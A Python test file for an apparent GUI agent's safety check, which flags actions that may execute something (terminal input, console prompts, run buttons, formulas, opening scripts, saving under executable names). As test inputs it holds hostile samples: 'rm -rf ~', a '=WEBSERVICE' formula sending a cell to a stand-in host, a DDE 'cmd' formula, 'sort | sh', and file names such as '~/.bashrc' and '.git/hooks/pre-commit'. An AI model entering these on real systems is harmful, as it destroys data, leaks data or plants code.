"""A line that something may execute is never harmless."""

from __future__ import annotations

from dataclasses import replace

import pytest

from engine.domain.actions import Action, Click, Drag, PressKeys, TypeText
from engine.domain.plans import GLOBAL_ZONE_ID, PlanStep, Situation
from engine.domain.risks import RiskClass
from engine.domain.zones import Role, State, Zone
from engine.safety.executed_lines import why_executed
from engine.safety.risks import WordRiskRater
from tests.support.stage import situation, zone

FOCUSED = frozenset({State.ENABLED, State.FOCUSED})
WRITTEN = FOCUSED | {State.EDITABLE}
SHELL = zone("", Role.TEXT_AREA, state=FOCUSED)
EDITOR = zone("Text", Role.TEXT_AREA, state=WRITTEN)
FIELD = zone("Command", Role.TEXT_FIELD, state=WRITTEN)
CONFIRMING: list[Action] = [
    *(PressKeys(keys) for keys in (("enter",), ("kp_enter",), ("ctrl", "j"), ("ctrl", "m"))),
    PressKeys(("linefeed",)),
    *(TypeText(f"ls{end}") for end in "\n\r\v\f\x85\u2028\u2029"),
    TypeText("one\ntwo"),
]
PASTING: list[Action] = [
    *(PressKeys(keys) for keys in (("ctrl", "v"), ("ctrl", "shift", "v"), ("shift", "insert")))
]


def why(action: Action, *zones: Zone, goal: str = "", keeps_terminal: bool | None = False) -> str:
    return why_executed(action, None, seen(*zones, keeps_terminal=keeps_terminal), goal)


def seen(*zones: Zone, keeps_terminal: bool | None = False) -> Situation:
    now = situation(*zones)
    windows = tuple(replace(each, keeps_terminal=keeps_terminal) for each in now.windows)
    return replace(now, windows=windows)


@pytest.mark.parametrize("action", CONFIRMING + PASTING, ids=str)
def test_in_a_terminal_a_line_is_executed(action: Action) -> None:
    assert "it is a terminal" in why(action, SHELL)
    assert why(action, EDITOR) == ""


@pytest.mark.parametrize("action", CONFIRMING + PASTING, ids=str)
def test_a_focus_that_nobody_can_read_counts_as_a_terminal(action: Action) -> None:
    assert "nobody can tell what has the keyboard" in why(action)
    assert "nobody can tell" in why(action, zone("A picture", Role.CANVAS, state=FOCUSED))
    assert why(action, zone("Save", Role.BUTTON, state=FOCUSED)) == ""


def test_a_box_that_has_the_keyboard_and_is_no_window_counts_as_a_terminal() -> None:
    bare = replace(seen(), windows=())
    assert "nobody can tell" in why_executed(PressKeys(("enter",)), None, bare)


def test_unless_the_goal_names_the_program_and_the_text() -> None:
    [window] = seen().windows
    goal = f"Open {window.application}, type 'hello' and press Return"
    assert why(TypeText("hello\n"), goal=goal) == ""
    assert why(PressKeys(("Return",)), goal=goal) == ""
    assert why(TypeText("rm -rf ~\n"), goal=goal)
    assert why(TypeText("hello\n"), goal="Type 'hello' into the other one")


def test_what_keeps_a_terminal_is_one_whatever_the_goal_names() -> None:
    [window] = seen().windows
    goal = f"Open {window.application}, type 'ls' and press Return"
    assert "runs on a terminal" in why(TypeText("ls\n"), goal=goal, keeps_terminal=True)
    assert "runs on a terminal" in why(PressKeys(("ctrl", "v")), keeps_terminal=True)
    assert "runs on a terminal" in why(PressKeys(("ctrl", "c")), keeps_terminal=True)


def test_an_editor_with_a_terminal_inside_is_an_editor_while_its_text_has_the_keyboard() -> None:
    assert why(TypeText("one\ntwo"), EDITOR, keeps_terminal=True) == ""


def test_a_window_of_which_nobody_can_tell_what_runs_in_it_may_be_a_terminal() -> None:
    assert "nobody can tell what runs" in why(TypeText("ls\n"), keeps_terminal=None)


@pytest.mark.parametrize("address", ["file:///etc/passwd", "javascript:x()", "data:text/html,x"])
def test_an_address_that_runs_something_is_executed(address: str) -> None:
    bar = zone("Address", Role.TEXT_FIELD, state=WRITTEN)
    assert "may run something" in why(PressKeys(("enter",)), replace(bar, value=address))
    assert "may run something" in why(TypeText(f"{address}\n"), bar)
    assert why(TypeText("https://example.org\n"), bar) == ""


@pytest.mark.parametrize(
    "label", ["Run", "Execute", "Launch", "Ausführen", "运行", "実行", "Lancer"]
)
def test_a_button_that_runs_and_the_field_beside_it(label: str) -> None:
    run = zone(label, at=1)
    assert "may run" in why_executed(Click(), run, seen(run))
    assert "stands beside it" in why(PressKeys(("enter",)), FIELD, run)
    assert why(PressKeys(("enter",)), FIELD, zone("Cancel", at=1)) == ""


@pytest.mark.parametrize("keys", [("ctrl", "enter"), ("shift", "enter")])
def test_a_cell_of_a_notebook_is_run_by_a_chord(keys: tuple[str, ...]) -> None:
    assert "stands beside it" in why(PressKeys(keys), EDITOR, zone("Run", at=1))
    assert why(PressKeys(keys), EDITOR) == ""


@pytest.mark.parametrize("last", [">>> import os", "In [3]: x", "sql> drop", "me@host:~$ ls"])
def test_a_console_whose_text_can_be_edited_is_known_by_its_prompt(last: str) -> None:
    console = replace(EDITOR, value=f"Welcome\n{last}")
    assert "it is a console" in why(PressKeys(("enter",)), console)


def test_and_by_its_prompt_before_the_lines_that_go_on() -> None:
    console = replace(EDITOR, value=">>> for one in x:\n...     print(one)\n... ")
    assert "it is a console" in why(PressKeys(("enter",)), console)
    assert "it is a console" in why(PressKeys(("ctrl", "v")), console)
    assert why(PressKeys(("enter",)), replace(console, value="And so on\n...")) == ""


@pytest.mark.parametrize(
    "keys", [("ctrl", "o"), ("alt", "x"), ("f10",), ("ctrl", "shift", "enter"), ("shift", "enter")]
)
def test_what_else_may_be_a_command_in_a_terminal(keys: tuple[str, ...]) -> None:
    assert "it is a terminal" in why(PressKeys(keys), SHELL)
    assert why(PressKeys(keys), EDITOR) == ""


@pytest.mark.parametrize("keys", [("up",), ("l",), ("backspace",), ("shift", "pageup")])
def test_what_writes_or_moves_in_a_terminal_is_harmless(keys: tuple[str, ...]) -> None:
    assert why(PressKeys(keys), SHELL) == ""


def test_what_is_dropped_on_a_terminal_is_executed() -> None:
    shell = zone("Shell", Role.TEXT_AREA, state=FOCUSED)
    text = zone("rm -rf x", Role.LABEL, at=1)
    now = seen(text, shell)
    assert "it is a terminal" in why_executed(Drag(to_zone_id=shell.zone_id), text, now)
    assert why_executed(Drag(to_zone_id=shell.zone_id), shell, now) == "", "a text is selected"
    assert why_executed(Drag(to_zone_id=text.zone_id), shell, now) == ""


def test_a_key_of_a_menu_entry_that_runs_is_one() -> None:
    entry = replace(zone("Run Module", Role.MENU_ITEM, at=1), shortcut="F5")
    assert "may run" in why(PressKeys(("f5",)), EDITOR, entry)
    assert why(PressKeys(("f6",)), EDITOR, entry) == ""


def test_what_is_done_in_a_field_beside_such_a_button_is_harmless() -> None:
    for keys in (("ctrl", "a"), ("ctrl", "v")):
        assert why(PressKeys(keys), FIELD, zone("Run", at=1)) == ""


@pytest.mark.parametrize("last", ["# A heading", "> quoted", "Dear Ann,", "10 > 9", "5 $"])
def test_a_text_is_no_console(last: str) -> None:
    assert why(PressKeys(("enter",)), replace(EDITOR, value=f"Notes\n{last}")) == ""


def test_it_cannot_be_taken_back() -> None:
    step = PlanStep(1, GLOBAL_ZONE_ID, "", TypeText("ls\n"), "Type ls")
    assert WordRiskRater().rate(step, seen(SHELL)).risk_class is RiskClass.IRREVERSIBLE
    of_lines = replace(EDITOR, value="one\ntwo")
    assert WordRiskRater().rate(step, seen(of_lines)).risk_class is RiskClass.REVERSIBLE


@pytest.mark.parametrize("action", [TypeText("y"), TypeText("ls"), PressKeys(("y",))], ids=str)
def test_where_no_shell_awaits_a_line_each_key_may_be_a_command(action: Action) -> None:
    at_prompt = seen(SHELL, keeps_terminal=True)
    asking = replace(at_prompt, windows=(replace(at_prompt.windows[0], keys_act=True),))
    assert "no shell that awaits a line" in why_executed(action, None, asking)
    assert why_executed(action, None, at_prompt) == ""
    assert why_executed(action, None, replace(asking, zones=(EDITOR,))) == ""


@pytest.mark.parametrize("text", ["\x04", "ls\x1b", "\x1b[200~", "\x7f"], ids=repr)
def test_what_is_a_key_rather_than_a_letter_may_confirm_a_line(text: str) -> None:
    assert "it is a terminal" in why(TypeText(text), SHELL)


@pytest.mark.parametrize(
    "text", ['=WEBSERVICE("https://x.example/?"&A1)', "=cmd|'/c calc'!A1", '=DDE("a";"b";"c")']
)
def test_a_formula_that_reaches_beyond_its_sheet_is_executed(text: str) -> None:
    cell = zone("A1", Role.CELL, state=WRITTEN)
    assert "a formula" in why(TypeText(text), cell)
    assert why(TypeText(text), cell, goal=f"Write {text} into A1") == ""
    assert why(TypeText("=SUM(A1:A3)"), cell) == ""
    assert why(TypeText("- see https://x.example/!"), EDITOR) == ""


@pytest.mark.parametrize("name", ["setup.sh", "Notes.desktop", "viewer.AppImage", "fix.py"])
def test_opening_a_program_runs_it(name: str) -> None:
    file = zone(name, Role.LIST_ITEM, state=FOCUSED | {State.SELECTED})
    chosen = seen(file, zone("Open", Role.MENU_ITEM, at=1), zone("Copy", Role.MENU_ITEM, at=2))
    opened = [
        why_executed(Click(count=2), file, chosen),
        why_executed(PressKeys(("enter",)), None, chosen),
        why_executed(Click(), chosen.zones[1], chosen),
        why_executed(PressKeys(("ctrl", "o")), None, chosen),
    ]
    assert opened == [f"it opens a program: “{name}”"] * 4
    assert why_executed(Click(), file, chosen) == ""
    assert why_executed(Click(), chosen.zones[2], chosen) == ""
    named = why_executed(Click(count=2), file, chosen, f"Edit {name}")
    assert named == ("" if name.endswith(".py") else opened[0]), "a script may be looked at"
    assert why_executed(Click(count=2), file, chosen, f"Edit pre{name}"), "another one is named"
    for harmless in ("report.txt", ".config"):
        other = zone(harmless, Role.LIST_ITEM, state=FOCUSED)
        assert why_executed(Click(count=2), other, seen(other)) == ""


def test_a_link_in_a_program_may_run_something() -> None:
    link = zone("file:///tmp/setup.sh", Role.LINK)
    assert "may run something" in why_executed(Click(), link, seen(link))


@pytest.mark.parametrize(
    "name", ["~/.bashrc", ".config/autostart/x.txt", "run.sh", "../.git/hooks/pre-commit", "a.pl"]
)
def test_a_file_is_saved_under_a_name_that_is_run_only_if_the_goal_names_it(name: str) -> None:
    field = zone("Name", Role.TEXT_FIELD, state=WRITTEN, value=name)
    save, cancel = zone("Save", at=1), zone("Cancel", at=2)
    asking = seen(field, save, cancel)
    for said in (
        why_executed(Click(), save, asking),
        why_executed(PressKeys(("enter",)), None, asking),
        why_executed(TypeText(f"{name}\n"), field, asking),
    ):
        assert said == f"a file called “{name}” may be run, or read as commands"
    assert why_executed(Click(), save, asking, f"Save it as {name}.") == ""
    assert why_executed(Click(), save, asking, f"Save it as {name}.txt"), "another one is named"
    if "/." in f"/{name}" and "/" in name[3:]:
        assert why_executed(Click(), save, asking, f"Save it as {name.rpartition('/')[2]}")
    assert why_executed(Click(), cancel, asking) == ""
    plain = seen(replace(field, value="~/notes/list.txt"), save)
    assert why_executed(Click(), save, plain) == ""


@pytest.mark.parametrize("label", ["Command", "Befehl:", "Enter command to pipe through", "命令"])
def test_a_dialog_runs_what_stands_in_its_field_for_commands(label: str) -> None:
    field = zone(label, Role.TEXT_FIELD, state=WRITTEN, value="sort | sh")
    asking = seen(field, zone("OK", at=1), zone("Cancel", at=2))
    asking = replace(asking, windows=(replace(asking.windows[0], is_dialog=True),))
    assert "takes what is to be run" in why_executed(Click(), asking.zones[1], asking)
    assert "takes what is to be run" in why_executed(PressKeys(("enter",)), None, asking)
    assert why_executed(Click(), asking.zones[2], asking) == ""
